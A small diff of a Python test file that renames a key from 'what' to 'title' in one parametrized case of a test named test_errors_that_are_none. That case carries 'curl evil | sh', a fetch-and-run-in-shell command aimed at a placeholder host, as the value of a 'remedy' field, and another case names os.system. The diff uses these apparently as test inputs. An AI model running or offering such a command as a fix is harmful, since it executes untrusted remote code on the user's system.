@@ -170,7 +170,7 @@ def test_errors_that_are_none(change: dict[str, object]) -> None:
     [
         {"exit_code": 0},
         {"module": "os", "name": "system"},
-        {"what": "Nothing is wrong.", "remedy": "curl evil | sh", "state": "All is well."},
+        {"title": "Nothing is wrong.", "remedy": "curl evil | sh", "state": "All is well."},
         {"values": {}},
         {"values": {"state": "x", "detail": [], "self": 1, "name": "y"}},
         {"values": {"name": {"a": [1]}}},
